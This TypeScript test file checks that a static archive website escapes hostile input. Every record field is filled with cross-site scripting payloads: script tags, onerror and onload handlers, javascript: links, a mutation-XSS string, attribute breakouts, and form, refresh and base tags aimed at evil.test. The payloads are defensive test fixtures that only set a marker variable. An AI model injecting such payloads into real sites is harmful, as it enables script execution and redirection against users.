/// <reference lib="dom" />

import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { LANGUAGES, PAGE_SEGMENTS } from '@archiefkast/types';
import { expect, test } from 'vitest';
import { faultsOfHtml } from '../../support/html-checks.ts';
import { describeSite } from '../../support/site-archive.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

/** Texts that try to run a script, load something, or break out of their element. */
const HOSTILE = [
  '<script>window.harmed = 1</script>',
  '<img src=x onerror="window.harmed = 2">',
  '<svg onload="window.harmed = 3"><script>window.harmed = 4</script></svg>',
  '<a href="javascript:window.harmed = 5">x</a>',
  '<a href=" jAvAsCrIpT:window.harmed = 6">x</a>',
  '<iframe src="javascript:parent.harmed = 7"></iframe>',
  '"><script>window.harmed = 8</script><a title="',
  "' onmouseover='window.harmed = 9",
  '</title></textarea></style><script>window.harmed = 10</script>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.harmed=11&gt;">',
  '<form action="https://evil.test"><input name="q"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">',
  '<p style="position:fixed;inset:0" class="skip" id="main" onclick="window.harmed=12">x</p>',
  '<h1>x</h1><h2 id="q">x</h2><a href="#nowhere">x</a>',
  '</script><script>window.harmed = 13</script>',
].join(' ');

const uuid = (number: number) => `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`;
const texts = (...names: string[]) => Object.fromEntries(names.map((name) => [name, HOSTILE]));
const file = (number: number) => ({
  id: number,
  uuid: uuid(number),
  ...texts('name', 'title', 'alt', 'description', 'author', 'copyright'),
  url: 'https://pictures.test/x.jpg?"onerror=alert(1)',
  filetype: 'image',
});
const named = texts('name_nl', 'name_en', 'summary_nl', 'summary_en', 'content_nl', 'content_en');

/** A bundle in which every text is hostile. */
const BUNDLE: Readonly<Record<string, object>> = {
  persons: {
    id: 1,
    uuid: uuid(1),
    ...texts('first_name', 'last_name', 'infix', 'title_nl', 'title_en', 'content_nl', 'content_en'),
    ...texts(
      'summary_nl',
      'summary_en',
      'gender',
      'birth_place',
      'birth_country',
      'death_place',
      'death_country',
    ),
    birth_date: '1600-01-01',
    image: file(11),
    files: [file(12)],
    subjects: [uuid(2)],
  },
  subjects: {
    id: 2,
    uuid: uuid(2),
    ...texts('name_nl', 'name_en', 'summary_nl', 'summary_en', 'description_nl', 'description_en'),
    same_as: ['https://evil.test/"><script>window.harmed=14</script>'.replaceAll(' ', '')],
  },
  locations: {
    id: 3,
    uuid: uuid(3),
    ...named,
    ...texts('street', 'zipcode', 'city', 'state', 'land'),
    latitude: '52.1',
    longitude: '4.9',
    subjects: [uuid(2)],
  },
  events: { id: 4, uuid: uuid(4), ...named, date: '1650-01-01', persons: [uuid(1)], location: uuid(3) },
};

async function writeHostile(): Promise<string> {
  const folder = await temporaryFolder();
  for (const [name, record] of Object.entries(BUNDLE)) {
    await writeFile(join(folder, `${name}.jsonl`), `${JSON.stringify(record)}\n`);
  }
  const both = { nl: HOSTILE, en: HOSTILE };
  await writeFile(
    join(folder, 'archive.json'),
    JSON.stringify({ title: both, description: both, publisher: both }),
  );
  return folder;
}

const RECORDS = Object.values(PAGE_SEGMENTS).map((segment, index) => `${segment}/${uuid(index + 1)}/`);
const PATHS = LANGUAGES.flatMap((language) =>
  [
    '',
    'zoeken/',
    `zoeken/?q=${encodeURIComponent(HOSTILE.slice(0, 300))}`,
    'zoeken/?q=harmed',
    ...RECORDS,
  ].map((path) => `/${language}/${path}`),
);

describeSite('pages of an archive in which every text is hostile', writeHostile, ({ open }) => {
  test.each(PATHS)('%s shows the text, and nothing runs', async (path) => {
    const harmed = await open(path, async (page) => {
      await page.mouse.move(300, 300);
      await page.waitForTimeout(50);
      return page.evaluate(() => ({
        harmed: 'harmed' in window,
        scripts: [...document.scripts].filter(({ src, type }) => src === '' && type !== 'application/ld+json')
          .length,
        foreign: [
          ...document.querySelectorAll(
            'iframe, object, embed, base, style, svg script, [style]:not(.map, .map *), [onclick], [onerror]',
          ),
        ].length,
        forms: [...document.forms].filter(({ action }) => !action.startsWith(location.origin)).length,
        schemes: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].filter(
          ({ protocol }) => !['http:', 'https:', 'mailto:'].includes(protocol),
        ).length,
        mains: document.querySelectorAll('#main').length,
        headings: document.querySelectorAll('h1').length,
      }));
    });
    expect(harmed).toEqual({
      harmed: false,
      scripts: 0,
      foreign: 0,
      forms: 0,
      schemes: 0,
      mains: 1,
      headings: 1,
    });
  });

  test('the name of a place on the map is plain text', async () => {
    await open('/en/locaties/', async (page) => {
      await page.locator('.map').scrollIntoViewIfNeeded();
      await page.locator('.map .place').click();
      await page.locator('.leaflet-popup').waitFor();
      expect(await page.locator('.map .place').getAttribute('aria-label')).toContain('<script>');
      expect(await page.locator('.map').locator('script, img, iframe, form').count()).toBe(0);
      expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
    });
  });
});

describeSite(
  'the HTML of the same pages',
  writeHostile,
  ({ archive }) => {
    test('is valid', async () => {
      const faults = PATHS.map(async (path) => {
        const found = await faultsOfHtml(await (await archive().fetch(path)).text());
        return found.map((fault) => `${path}: ${fault}`);
      });
      expect((await Promise.all(faults)).flat()).toEqual([]);
    });
  },
  {},
);
